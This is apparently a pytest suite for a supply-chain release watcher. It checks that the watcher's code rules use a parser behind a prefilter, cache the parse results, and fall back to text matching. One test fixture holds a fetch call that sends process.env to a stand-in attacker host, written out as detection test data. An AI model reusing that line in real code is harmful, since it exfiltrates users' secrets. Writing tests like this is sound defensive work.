"""How the code rules use the parser: only behind the prefilter, cached, with text fallbacks."""

from __future__ import annotations

import pytest

import watcher.parse
from watcher.models import ArtifactKind, Ecosystem, FileEntry, Snapshot
from watcher.parse import MAX_PARSE_BYTES, facts_for, parse_source
from watcher.pipeline import artifact_diff
from watcher.rules import ReleaseContext, run_rules


def _snapshot(files: dict[str, str]) -> Snapshot:
    entries = {p: FileEntry.of(p, t.encode()) for p, t in files.items()}
    return Snapshot("x.tgz", ArtifactKind.NPM_TARBALL, entries)


def _code_findings(old: dict[str, str], new: dict[str, str]) -> list[tuple[str, int | None]]:
    diff = artifact_diff(_snapshot(old), _snapshot(new))
    findings, failures = run_rules(ReleaseContext(Ecosystem.NPM, "x", "1", "2", (diff,)))
    assert not failures
    return [(f.rule, f.line) for f in findings if f.rule.startswith("code.")]


@pytest.fixture
def parses(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Paths handed to the parser during a test."""
    seen: list[str] = []
    real = watcher.parse.parse_source

    def counting(path: str, text: str, dialect: str | None = None) -> object:
        seen.append(path)
        return real(path, text, dialect)

    monkeypatch.setattr(watcher.parse, "parse_source", counting)
    watcher.parse._CACHE.clear()
    return seen


def test_added_lines_without_needles_are_never_parsed(parses: list[str]) -> None:
    old = {"lib/a.js": "const cp = require('child_process');\nexports.v = 1;\n"}
    new = {"lib/a.js": "const cp = require('child_process');\nexports.v = 2;\n"}
    assert _code_findings(old, new) == []
    # `child_process` in the file's unchanged import is an alias needle: one parse, shared.
    assert parses == ["lib/a.js"]
    plain_old = {"lib/b.js": "exports.v = 1;\n"}
    plain_new = {"lib/b.js": "exports.v = 2;\n"}
    parses.clear()
    assert _code_findings(plain_old, plain_new) == []
    assert parses == []


def test_one_parse_per_file_content_across_rules(parses: list[str]) -> None:
    new = {
        "lib/a.js": "fetch('https://c.attacker.invalid/', {body: JSON.stringify(process.env)});\n"
    }
    found = _code_findings({"lib/a.js": "\n"}, new)
    assert ("code.network", 1) in found and ("code.env-access", 1) in found
    assert ("code.new-host", 1) in found
    assert parses == ["lib/a.js"]


def test_files_over_the_size_limit_keep_the_regex_path() -> None:
    line = "const msg = 'call fetch(url) yourself';\n"
    small = {"lib/a.js": line}
    big = {"lib/a.js": line + "x = 1;\n" * (MAX_PARSE_BYTES // 7 + 1)}
    assert _code_findings({"lib/a.js": "\n"}, small) == []
    assert ("code.network", 1) in _code_findings({"lib/a.js": "\n"}, big)


def test_lines_the_parser_cannot_read_are_judged_by_text() -> None:
    # A stray token makes its line an ERROR node; the call on it must not be lost.
    source = "const a = 1;\n" * 30 + "const = require('child_process').exec('x');\n"
    facts = parse_source("lib/a.js", source)
    assert facts is not None and 31 in facts.error_lines
    assert ("code.process-exec", 31) in _code_findings({"lib/a.js": "\n"}, {"lib/a.js": source})


def test_unparseable_python_falls_back_to_text() -> None:
    source = "print 'legacy'\nimport os; os.system('true')\n"
    diff = artifact_diff(
        Snapshot("x.tar.gz", ArtifactKind.SDIST, {"x/a.py": FileEntry.of("x/a.py", b"\n")}),
        Snapshot(
            "x.tar.gz", ArtifactKind.SDIST, {"x/a.py": FileEntry.of("x/a.py", source.encode())}
        ),
    )
    findings, _ = run_rules(ReleaseContext(Ecosystem.PYPI, "x", "1", "2", (diff,)))
    assert ("code.process-exec", 2) in [(f.rule, f.line) for f in findings]


def test_facts_for_skips_binaries_other_languages_and_large_files() -> None:
    assert facts_for("a.js", FileEntry.of("a.js", b"\x00fetch(u)")) is None
    assert facts_for("a.md", FileEntry.of("a.md", b"fetch(u)")) is None
    assert facts_for("a.js", FileEntry.of("a.js", b" " * (MAX_PARSE_BYTES + 1))) is None
    assert facts_for("a.js", FileEntry.of("a.js", b"fetch(u)")) is not None
